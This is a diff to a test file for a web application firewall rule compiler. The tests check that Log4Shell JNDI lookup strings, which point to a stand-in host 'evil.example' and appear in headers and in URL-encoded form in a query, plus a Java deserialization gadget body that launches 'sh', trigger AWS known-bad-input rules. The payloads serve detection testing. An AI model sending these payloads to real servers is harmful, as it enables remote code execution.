@@ -392,7 +392,7 @@ def test_managed_common_rule_set_sizes_user_agent_and_xss() -> None:
     assert rule_for(view(body=b"x" * 8192)) is None
 
 
-def test_known_bad_inputs_log4shell() -> None:
+def test_known_bad_inputs_java_log4shell_and_propfind() -> None:
     rule = Rule(
         name="kbi",
         priority=0,
@@ -402,8 +402,14 @@ def test_known_bad_inputs_log4shell() -> None:
         override_action="None",
     )
     compiled = Compiler(DETECTORS, RateCounter()).compile_acl(acl(rule))
-    verdict = compiled.evaluate(view(headers=[("User-Agent", "${jndi:ldap://evil.example/a}")]))
-    assert verdict.rule == "AWSManagedRulesKnownBadInputsRuleSet/JavaDeserializationRCE_HEADER"
+    prefix = "AWSManagedRulesKnownBadInputsRuleSet/"
+    jndi = view(headers=[("User-Agent", "${jndi:ldap://evil.example/a}")])
+    assert compiled.evaluate(jndi).rule == prefix + "Log4JRCE_HEADER"
+    encoded = view(query="x=%24%7Bjndi%3Aldap%3A%2F%2Fevil.example%2Fa%7D")
+    assert compiled.evaluate(encoded).rule == prefix + "Log4JRCE_QUERYSTRING"
+    gadget = view(method="POST", body=b"<java.lang.ProcessBuilder><command>sh</command>")
+    assert compiled.evaluate(gadget).rule == prefix + "JavaDeserializationRCE_BODY"
+    assert compiled.evaluate(view(method="PROPFIND")).rule == prefix + "PROPFIND_METHOD"
     assert compiled.evaluate(view()).action == "Allow"
 
 
